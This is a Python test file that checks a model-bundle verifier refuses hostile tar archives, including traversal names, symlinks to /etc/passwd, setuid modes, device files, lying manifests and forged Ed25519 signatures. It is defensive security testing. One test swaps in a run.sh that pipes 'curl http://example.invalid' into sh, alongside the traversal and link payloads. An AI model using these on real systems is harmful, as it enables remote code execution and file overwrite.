"""Bundles a box can trust: root-owned members with recorded modes, streaming checks before anything is unpacked,
manifests that cannot point outside the bundle or skip the self-test, Ed25519 signatures, safe output names.

Hostile members (modes, owners, links, devices, names, duplicates, sizes, counts) come from a hypothesis generator
(derandomized): each must be refused with one line before verify makes its temporary folder.
"""
import hashlib
import io
import json
import os
import stat
import sys
import tarfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from edge_tiny import build_ir
from edgematte.edge import bundle as bundle_module
from edgematte.edge.bundle import BundleError, make_bundle, run_script, verify_bundle
from edgematte.edge.cli import main
from edgematte.edge.errors import EdgematteError

TOP = "good"


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """One tiny IR, its unsigned bundle, a key pair and the signed bundle (read-only for every test)."""
    root = tmp_path_factory.mktemp("trust")
    xml = build_ir(root / "m", name="tiny", size=(32, 32))
    unsigned = root / "good.tar.gz"
    make_bundle([str(xml)], str(unsigned))
    keys = root / "keys"
    assert main(["keygen", "-o", str(keys)]) == 0
    signed = root / "signed" / "good.tar.gz"
    make_bundle([str(xml)], str(signed), sign_key=str(keys / "edgematte-sign.pem"))
    return {"xml": xml, "unsigned": unsigned, "signed": signed, "private": keys / "edgematte-sign.pem",
            "public": keys / "edgematte-sign.pub", "root": root}


def _read(path):
    """Every member of a bundle with its content (None for folders), in archive order."""
    with tarfile.open(str(path), "r:gz") as tar:
        return [(m, tar.extractfile(m).read() if m.isfile() else None) for m in tar.getmembers()]


def _pack(path, members):
    """Write (TarInfo, bytes-or-None) members as a .tar.gz, sizes taken from the bytes."""
    with tarfile.open(str(path), "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            if data is not None and info.isreg():
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)


def _edit_manifest(members, change):
    """The members with manifest.json passed through change(dict) (its hashes as the attacker likes)."""
    out = []
    for info, data in members:
        if info.name == TOP + "/manifest.json":
            manifest = json.loads(data)
            change(manifest)
            data = json.dumps(manifest).encode()
        out.append((info, data))
    return out


def _replace(members, name, data, manifest_too=True):
    """The members with `name`'s content replaced, the manifest's hash and size recomputed to match."""
    out = [(i, data if i.name == TOP + "/" + name else d) for i, d in members]
    if manifest_too:
        out = _edit_manifest(out, lambda m: m["files"][name].update(sha256=hashlib.sha256(data).hexdigest(),
                                                                    bytes=len(data)))
    return out


def _one_line_refusal(path, capsys, argv_extra=(), match=None):
    """verify must exit 1 with one stderr line naming the bundle (and `match`), no traceback."""
    capsys.readouterr()
    assert main(["verify", str(path)] + list(argv_extra)) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and str(path) in err[0] and "Traceback" not in err[0], err
    if match:
        assert match in err[0], err[0]
    return err[0]


def test_members_are_root_owned_with_the_modes_the_manifest_records(made):
    members = _read(made["unsigned"])
    assert [m.name for m, _ in members[:2]] == [TOP, TOP + "/manifest.json"]
    manifest = json.loads(members[1][1])
    assert manifest["format"] == 2
    for info, _ in members:
        assert (info.uid, info.gid, info.uname, info.gname) == (0, 0, "", ""), info.name
        rel = info.name.partition("/")[2]
        if info.isdir():
            assert info.mode == 0o755
        elif rel in manifest["files"]:
            assert "{:04o}".format(info.mode) == manifest["files"][rel]["mode"], rel
    assert manifest["files"]["run.sh"]["mode"] == "0755" and manifest["files"]["requirements.txt"]["mode"] == "0644"


# ---- hostile members -------------------------------------------------------------------------------------------


@st.composite
def hostile(draw):
    """A kind of hostile change and its parameters."""
    kind = draw(st.sampled_from(["mode", "owner", "link", "special", "name", "duplicate", "size", "count",
                                 "unlisted_big", "before_manifest", "sparse", "xattr"]))
    return kind, draw(st.integers(0, 10 ** 6)), draw(st.integers(0, 10 ** 6))


def _apply(members, kind, a, b):
    """The good bundle's members after one hostile change (always a change verify must refuse)."""
    members = [(_copy(i), d) for i, d in members]
    files = [k for k, (i, _) in enumerate(members) if i.isreg() and not i.name.endswith(("manifest.json",))]
    pick = files[a % len(files)]
    info, data = members[pick]
    if kind == "mode":
        change = b % 5  # setuid, setgid, sticky, world-writable, or merely not the recorded mode
        info.mode = info.mode ^ 0o020 if change == 4 else info.mode | (0o4000, 0o2000, 0o1000, 0o002)[change]
    elif kind == "owner":
        field = b % 4
        if field == 0:
            info.uid = 1 + a % 65534
        elif field == 1:
            info.gid = 1 + a % 65534
        elif field == 2:
            info.uname = "mallory"
        else:
            info.gname = "staff"
    elif kind == "link":
        info.type = (tarfile.SYMTYPE, tarfile.LNKTYPE)[b % 2]
        info.linkname = ["/etc/passwd", "../../outside", TOP + "/run.sh"][a % 3]
        info.size = 0
        members[pick] = (info, None)
    elif kind == "special":
        info.type = (tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE)[b % 3]
        info.devmajor, info.devminor, info.size = 1, 3, 0
        members[pick] = (info, None)
    elif kind == "sparse":
        info.type = tarfile.CONTTYPE if b % 2 else tarfile.GNUTYPE_SPARSE
    elif kind == "name":
        rel = info.name.partition("/")[2]
        info.name = ["/" + info.name, TOP + "/../" + rel, "../" + info.name, TOP + "/./" + rel,
                     "other/" + rel, TOP + "/x/../" + rel, TOP + "\\" + rel][b % 7]
    elif kind == "duplicate":
        twin = _copy(info)
        evil = b"#!/bin/sh\necho replaced\n" if b % 2 else data
        members.insert(min(len(members), pick + 1 + b % 3), (twin, evil))
    elif kind == "size":
        members[pick] = (info, data + b"\0" * (1 + b % 4096) if b % 2 or not data else data[: len(data) // 2])
    elif kind == "count":
        for n in range(1 + b % 300):
            members.append((tarfile.TarInfo("{}/selftest/extra{}.png".format(TOP, n)), b""))
    elif kind == "unlisted_big":
        members.insert(2, (tarfile.TarInfo(TOP + "/selftest/fill.bin"), b"\0" * (8 << 20)))
    elif kind == "xattr":
        info.pax_headers = {["SCHILY.xattr.security.capability", "SCHILY.acl.access", "GNU.sparse.map",
                             "linkpath"][b % 4]: "x"}
    elif kind == "before_manifest":
        members.insert(0 if b % 2 else 1, (_copy(info), data))
    return members


def _copy(info):
    """A fresh copy of a TarInfo (so the good bundle's list stays untouched)."""
    twin = tarfile.TarInfo(info.name)
    for field in ("size", "mtime", "mode", "type", "linkname", "uid", "gid", "uname", "gname"):
        setattr(twin, field, getattr(info, field))
    return twin


def _fuzz(examples):
    return settings(max_examples=examples, derandomize=True, deadline=None, database=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


@_fuzz(70)
@given(case=hostile())
def test_hostile_members_are_refused_before_anything_is_unpacked(made, tmp_path, monkeypatch, case):
    kind, a, b = case
    made_dirs = []
    real_mkdtemp = bundle_module.tempfile.mkdtemp
    monkeypatch.setattr(bundle_module.tempfile, "mkdtemp", lambda *x, **k: made_dirs.append(1) or real_mkdtemp(
        *x, **k))
    bad = tmp_path / "bad.tar.gz"
    _pack(bad, _apply(_read(made["unsigned"]), kind, a, b))
    with pytest.raises(BundleError) as info:
        verify_bundle(str(bad))
    message = str(info.value)
    assert "\n" not in message and str(bad) in message, message
    assert made_dirs == [], "verify made its temporary folder before refusing {}: {}".format(kind, message)


@pytest.mark.parametrize("kind,match", [
    ("mode", "setuid/setgid/sticky or world-writable"), ("owner", "belong to root"), ("link", "link"),
    ("special", "a bundle holds only regular files"), ("duplicate", "more than once"),
    ("count", "not in the manifest"), ("name", "refusing member"), ("xattr", "extended header"),
])
def test_hostile_members_give_one_line(made, tmp_path, capsys, kind, match):
    bad = tmp_path / "bad.tar.gz"
    _pack(bad, _apply(_read(made["unsigned"]), kind, 3, 0))
    _one_line_refusal(bad, capsys, match=match)


def test_a_huge_header_before_the_manifest_is_refused_within_a_budget(made, tmp_path):
    members = _read(made["unsigned"])
    members[1][0].pax_headers = {"comment": "x" * (6 << 20)}
    bad = tmp_path / "bad.tar.gz"
    _pack(bad, members)
    with pytest.raises(BundleError, match="more data than"):
        verify_bundle(str(bad))


def test_the_selftest_space_is_checked_before_unpacking(made, monkeypatch):
    class Usage:
        free = 1000

    monkeypatch.setattr(bundle_module.shutil, "disk_usage", lambda path: Usage())
    with pytest.raises(BundleError, match="the self-test needs"):
        verify_bundle(str(made["unsigned"]))


# ---- manifests that lie ----------------------------------------------------------------------------------------


def _outside(m):
    m["models"][0]["path"] = "/tmp/elsewhere/model.xml"


def _escaping(m):
    m["models"][0]["path"] = "../m/tiny.xml"


def _no_models(m):
    m["models"] = []


def _escaping_file(m):
    m["files"]["../../evil"] = dict(m["files"]["run.sh"])


def _setuid_in_manifest(m):
    m["files"]["run.sh"]["mode"] = "4755"


def _old_format(m):
    m["format"] = 1


@pytest.mark.parametrize("change,match", [
    (_outside, "not an IR inside the bundle"), (_escaping, "not an IR inside the bundle"),
    (_no_models, "lists no models"), (_escaping_file, "a path outside the bundle"),
    (_setuid_in_manifest, "setuid"), (_old_format, "format 1"),
])
def test_manifests_that_point_outside_or_skip_the_selftest(made, tmp_path, capsys, change, match):
    bad = tmp_path / "bad.tar.gz"
    _pack(bad, _edit_manifest(_read(made["unsigned"]), change))
    _one_line_refusal(bad, capsys, match=match)


def test_a_replaced_run_sh_with_its_hash_recomputed_is_refused(made, tmp_path, capsys):
    bad = tmp_path / "bad.tar.gz"
    evil = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
    _pack(bad, _replace(_read(made["unsigned"]), "run.sh", evil))
    _one_line_refusal(bad, capsys, match="run.sh is not the script bundle writes")
    # the same script for another model of the bundle's own: still not what the self-test covers
    other = run_script("models/other/model.xml").encode()
    _pack(bad, _replace(_read(made["unsigned"]), "run.sh", other))
    _one_line_refusal(bad, capsys, match="run.sh is not the script bundle writes")


def test_an_ir_outside_the_model_list_is_refused(made, tmp_path, capsys):
    members = _read(made["unsigned"])
    xml = next(d for i, d in members if i.name.endswith("model.xml"))
    extra = tarfile.TarInfo(TOP + "/models/tiny/other.xml")
    extra.mode = 0o644
    members.append((extra, xml))
    members = _edit_manifest(members, lambda m: m["files"].update({"models/tiny/other.xml": {
        "sha256": hashlib.sha256(xml).hexdigest(), "bytes": len(xml), "mode": "0644"}}))
    bad = tmp_path / "bad.tar.gz"
    _pack(bad, members)
    _one_line_refusal(bad, capsys, match="without a self-test")


# ---- signatures --------------------------------------------------------------------------------------------------


def test_keygen_writes_a_private_key_only_its_owner_reads_and_never_overwrites(made, tmp_path, capsys):
    assert stat.S_IMODE(os.stat(str(made["private"])).st_mode) == 0o600
    assert made["public"].read_text().startswith("ssh-ed25519 ")
    before = made["private"].read_bytes(), made["public"].read_bytes()
    capsys.readouterr()
    assert main(["keygen", "-o", str(made["private"].parent)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "already exists" in err[0]
    assert (made["private"].read_bytes(), made["public"].read_bytes()) == before
    (tmp_path / "k").mkdir()
    (tmp_path / "k" / "edgematte-sign.pub").write_text("mine\n")
    assert main(["keygen", "-o", str(tmp_path / "k")]) == 1
    assert sorted(p.name for p in (tmp_path / "k").iterdir()) == ["edgematte-sign.pub"]


def test_verify_says_what_it_proves(made, capsys):
    capsys.readouterr()
    assert main(["verify", str(made["signed"]), "--key", str(made["public"])]) == 0
    out = capsys.readouterr()
    assert "signature ok" in out.out and "SHA256:" in out.out and out.err == ""
    assert main(["verify", str(made["signed"])]) == 0
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "signature present" in err[0] and "origin unchecked" in err[0]
    assert main(["verify", str(made["unsigned"])]) == 0
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "not signed" in err[0] and "integrity, not origin" in err[0]


def test_an_attacker_who_rewrites_files_and_manifest_is_refused_with_a_key(made, tmp_path, capsys):
    members = _read(made["signed"])
    bad = tmp_path / "bad.tar.gz"
    requirements = next(d for i, d in members if i.name.endswith("requirements.txt"))
    _pack(bad, _replace(members, "requirements.txt", requirements + b"evil-package\n"))
    assert verify_bundle(str(bad))["signature"]["state"] == "unchecked"  # without a key: integrity only
    key = ["--key", str(made["public"])]
    _one_line_refusal(bad, capsys, key, match="signature does not match")
    # ... and with the signature dropped, or re-signed with the attacker's own key
    _pack(bad, [(i, d) for i, d in _replace(members, "requirements.txt", b"x\n")
                if not i.name.endswith("manifest.sig")])
    _one_line_refusal(bad, capsys, key, match="not signed")
    assert main(["keygen", "-o", str(tmp_path / "mallory")]) == 0
    forged = tmp_path / "forged.tar.gz"
    make_bundle([str(made["xml"])], str(forged), sign_key=str(tmp_path / "mallory" / "edgematte-sign.pem"))
    _one_line_refusal(forged, capsys, key, match="signature does not match")
    _one_line_refusal(made["unsigned"], capsys, key, match="not signed")


def test_openssh_and_pem_keys_work_and_other_keys_are_named(made, tmp_path, capsys):
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ed25519, rsa

    key = ed25519.Ed25519PrivateKey.generate()
    ssh_private = tmp_path / "id_ed25519"
    ssh_private.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH,
                                              serialization.NoEncryption()))
    pem_public = tmp_path / "pub.pem"
    pem_public.write_bytes(key.public_key().public_bytes(serialization.Encoding.PEM,
                                                         serialization.PublicFormat.SubjectPublicKeyInfo))
    out = tmp_path / "ssh.tar.gz"
    assert main(["bundle", str(made["xml"]), "-o", str(out), "--sign", str(ssh_private)]) == 0
    assert verify_bundle(str(out), key=str(pem_public))["signature"]["state"] == "verified"
    encrypted = tmp_path / "locked.pem"
    encrypted.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                            serialization.BestAvailableEncryption(b"secret")))
    rsa_key = tmp_path / "rsa.pem"
    rsa_key.write_bytes(rsa.generate_private_key(65537, 1024).private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    junk = tmp_path / "junk.pem"
    junk.write_bytes(b"not a key\n")
    for path, words in ((encrypted, "encrypted"), (rsa_key, "Ed25519"), (junk, "not a PEM or OpenSSH"),
                        (tmp_path / "absent.pem", "no such key file")):
        capsys.readouterr()
        target = tmp_path / "never.tar.gz"
        assert main(["bundle", str(made["xml"]), "-o", str(target), "--sign", str(path)]) == 1
        err = capsys.readouterr().err.strip().splitlines()
        assert len(err) == 1 and str(path) in err[0] and words in err[0], err
        assert not target.exists()
    capsys.readouterr()
    assert main(["verify", str(made["signed"]), "--key", str(made["private"])]) == 1
    assert "pass the .pub file" in capsys.readouterr().err


def test_without_cryptography_signing_names_the_extra_and_hashes_still_verify(made, tmp_path, monkeypatch, capsys):
    for name in [n for n in sys.modules if n == "cryptography" or n.startswith("cryptography.")]:
        monkeypatch.setitem(sys.modules, name, None)
    monkeypatch.setitem(sys.modules, "cryptography", None)
    capsys.readouterr()
    assert main(["bundle", str(made["xml"]), "-o", str(tmp_path / "s.tar.gz"), "--sign", str(made["private"])]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "edgematte[sign]" in err[0]
    assert verify_bundle(str(made["unsigned"]))["signature"] == {"state": "none"}
    assert verify_bundle(str(made["signed"]))["signature"]["state"] == "unchecked"


# ---- what bundle writes -------------------------------------------------------------------------------------------


def test_bad_bundle_outputs_are_one_line_and_leave_nothing(made, tmp_path, capsys, monkeypatch):
    xml = str(made["xml"])
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "taken.tar.gz").write_bytes(b"mine")
    (folder / "dir.tar.gz").mkdir()
    for target, words in ((folder / ".tar.gz", "top folder"), (folder / "dir.tar.gz", "is a folder"),
                          (folder / "taken.tar.gz", "already exists")):
        capsys.readouterr()
        assert main(["bundle", xml, "-o", str(target)]) == 1
        err = capsys.readouterr().err.strip().splitlines()
        assert len(err) == 1 and str(target) in err[0] and words in err[0], err
    assert (folder / "taken.tar.gz").read_bytes() == b"mine"

    calls = []

    def full_disk(self, info, fileobj=None):
        calls.append(info.name)
        if len(calls) > 3:
            raise OSError(28, "No space left on device")
        return real_addfile(self, info, fileobj)

    real_addfile = tarfile.TarFile.addfile
    monkeypatch.setattr(tarfile.TarFile, "addfile", full_disk)
    capsys.readouterr()
    assert main(["bundle", xml, "-o", str(folder / "box.tar.gz")]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and str(folder / "box.tar.gz") in err[0] and "No space left" in err[0], err
    assert sorted(p.name for p in folder.iterdir()) == ["dir.tar.gz", "taken.tar.gz"]


def test_odd_model_names_become_plain_folder_names(made, tmp_path):
    odd = tmp_path / "my model (v2)"
    odd.mkdir()
    for suffix in (".xml", ".bin"):
        (odd / ("model" + suffix)).write_bytes(made["xml"].with_suffix(suffix).read_bytes())
    out = tmp_path / "odd.tar.gz"
    manifest = make_bundle([str(odd / "model.xml")], str(out))
    assert manifest["models"][0]["name"] == "my_model__v2_"
    assert verify_bundle(str(out))["models"][0]["name"] == "my_model__v2_"


@pytest.mark.parametrize("name", ["../x", "a/b", "/abs", ".hidden", "x.y", "", "a" * 65])
def test_ship_refuses_names_that_are_not_plain(tmp_path, capsys, name):
    from edgematte.export.ship import ship

    with pytest.raises(EdgematteError, match="--name"):
        ship(str(tmp_path / "absent.pt"), name, str(tmp_path), zoo=str(tmp_path / "zoo"), verbose=False)
    capsys.readouterr()
    assert main(["ship", str(tmp_path / "absent.pt"), "--name", name, "--val", str(tmp_path),
                 "--zoo", str(tmp_path / "zoo")]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "--name" in err[0], err
    assert not (tmp_path / "zoo").exists() and not (tmp_path / "x").exists()
